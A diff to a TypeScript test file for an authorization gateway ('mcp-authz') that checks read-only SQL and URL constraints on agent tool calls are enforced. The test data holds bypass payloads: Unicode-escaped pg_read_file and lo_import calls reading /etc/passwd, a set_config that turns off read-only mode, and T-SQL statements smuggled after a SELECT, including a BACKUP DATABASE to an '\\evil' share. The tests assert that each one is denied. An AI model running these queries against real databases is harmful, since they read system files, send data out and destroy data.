@@ -1,9 +1,10 @@
 // The argument-constraint example (examples/arguments, docs/policies.md) through
 // `mcp-authz check`: the three classic cases, which constraint denied, and never the value.
 import test from 'ava';
-import { readFileSync } from 'node:fs';
+import { copyFileSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { parse as parseYaml } from 'yaml';
+import { parse as parseYaml, stringify as stringifyYaml } from 'yaml';
 import { explain } from '../src/cli/check-command.js';
 import { loadConfigFile } from '../src/config/load.js';
 import { ROOT, runCli } from './helpers/cli.js';
@@ -27,7 +28,8 @@ const denials: [string, string, Record<string, unknown>, string, string][] = [
   ['a host that is not listed', 'http_get', { url: 'https://attacker.example/?to=api.example.com' }, 'url', 'url'],
   ['a method outside the enum', 'http_get', { url: 'https://api.example.com/', method: 'DELETE' }, 'method', 'enum'],
   ['a second statement', 'sql', { query: 'SELECT 1; DROP TABLE accounts' }, 'query', 'sql'],
-  ['a write keyword', 'sql', { query: 'SELECT * INTO stolen FROM accounts' }, 'query', 'sql'],
+  ['SELECT … INTO', 'sql', { query: 'SELECT * INTO stolen FROM accounts' }, 'query', 'sql'],
+  ['a function that reads a file', 'sql', { query: `SELECT U&"pg_read_fil\\0065"('/etc/passwd')` }, 'query', 'sql'],
   ['a limit out of range', 'sql', { query: 'SELECT 1', limit: 100000 }, 'limit', 'maximum'],
   ['an argument the rule does not list', 'sql', { query: 'SELECT 1', database: 'admin' }, 'database', 'otherArguments'],
 ];
@@ -97,3 +99,70 @@ test('arguments that are not an object, or a number no float holds, are 400 inva
     t.is(out.policy, null, 'decided before the policy');
   }
 });
+
+// ---------------------------------------------------------------- read-only SQL through check
+
+// The example with its sql rule's constraint replaced: the earlier `select-only`, or a dialect.
+function exampleWithSql(constraint: unknown): string {
+  const dir = mkdtempSync(join(tmpdir(), 'mcp-authz-sql-'));
+  const config = parseYaml(readFileSync(CONFIG, 'utf8')) as { endpoints: { data: { arguments: { tools: string[]; arguments: Record<string, { sql?: unknown }> }[] } }[] };
+  for (const rule of config.endpoints[0]!.data.arguments) if (rule.tools.includes('sql')) rule.arguments.query!.sql = constraint;
+  copyFileSync(join(ROOT, 'examples', 'arguments', 'keys.yaml'), join(dir, 'keys.yaml'));
+  writeFileSync(join(dir, 'config.yaml'), stringifyYaml(config));
+  return join(dir, 'config.yaml');
+}
+
+const SQL_FORMS: [string, unknown][] = [
+  ['select-only', 'select-only'],
+  ['dialect postgresql', { dialect: 'postgresql' }],
+  ['dialect sqlserver', { dialect: 'sqlserver' }],
+];
+
+async function checkSql(config: string, query: string): Promise<Record<string, any>> {
+  return explain(loadConfigFile(config, {}), { method: 'POST', path: '/mcp/tools', host: 'mcp.example.com', headers: [['x-api-key', AGENT], ['content-type', 'application/json']], body: body('sql', { query }) });
+}
+
+const SQL_DEFECTS: [string, string[]][] = [
+  [
+    'a function named with Unicode escapes (pg_read_file, lo_import, set_config)',
+    [
+      `SELECT U&"pg_read_fil\\0065"('/etc/passwd')`,
+      `SELECT U&"pg_read_fil!0065" UESCAPE '!'('/etc/passwd')`,
+      `SELECT U&"lo_\\0069mport"('/etc/passwd')`,
+      `SELECT U&"set_confi\\0067"('default_transaction_read_only','off',false)`,
+    ],
+  ],
+  [
+    'a T-SQL statement after a SELECT without ";"',
+    [
+      "SELECT 1 BACKUP DATABASE master TO DISK = '\\\\evil\\share\\m.bak'",
+      'SELECT 1 DENY SELECT ON accounts TO public',
+      'SELECT 1 DISABLE TRIGGER ALL ON accounts',
+      'SELECT 1 DBCC CHECKDB',
+      'SELECT 1 RECONFIGURE',
+      "SELECT 1 RESTORE DATABASE master FROM DISK = 'm.bak'",
+    ],
+  ],
+  ['a keyword glued to a number', ['SELECT 1into stolen FROM accounts', 'SELECT 1.0into stolen FROM accounts', 'SELECT 1e1into stolen FROM accounts']],
+  ['a row-locking clause', ['SELECT * FROM accounts FOR SHARE', 'SELECT * FROM accounts FOR KEY SHARE']],
+];
+
+for (const [form, constraint] of SQL_FORMS) {
+  for (const [what, queries] of SQL_DEFECTS) {
+    // A PostgreSQL endpoint's queries are read as PostgreSQL reads them: `SELECT 1 RECONFIGURE`
+    // is a column named reconfigure there. T-SQL is the concern of the other forms.
+    if (what.includes('T-SQL') && form === 'dialect postgresql') continue;
+    test(`check refuses ${what} under sql: ${form}`, async (t) => {
+      const config = exampleWithSql(constraint);
+      for (const query of queries) {
+        const out = await checkSql(config, query);
+        t.is(out.decision, 'deny', `${query}: ${JSON.stringify(out.body)}`);
+        t.is(out.policy?.deniedArgument?.constraint, 'sql', query);
+      }
+    });
+  }
+  test(`check allows a plain SELECT under sql: ${form}`, async (t) => {
+    const out = await checkSql(exampleWithSql(constraint), 'SELECT id, title FROM posts WHERE author = 7 ORDER BY id');
+    t.is(out.decision, 'allow', JSON.stringify(out.body));
+  });
+}
